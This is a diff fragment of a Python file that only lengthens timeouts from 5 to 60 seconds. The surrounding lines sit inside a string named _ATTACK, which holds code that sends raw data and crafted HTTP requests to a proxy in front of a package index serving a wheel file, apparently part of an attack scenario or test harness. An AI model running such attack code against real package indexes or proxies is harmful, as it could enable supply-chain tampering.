@@ -153,12 +153,12 @@ _ATTACK = """
     url = "{index}/files/{wheel}"
     host = url.split("/")[2]
     def raw(data):
-        with socket.create_connection(tuple(proxy.split(":")), 5) as connection:
+        with socket.create_connection(tuple(proxy.split(":")), 60) as connection:
             connection.sendall(data)
-            connection.settimeout(5)
+            connection.settimeout(60)
             return connection.recv(65536)
     def ask(method, target, fields, content=None):
-        connection = http.client.HTTPConnection(proxy, timeout=5)
+        connection = http.client.HTTPConnection(proxy, timeout=60)
         connection.request(method, target, content, fields)
         return connection.getresponse().read()
     false = b"false" * 100
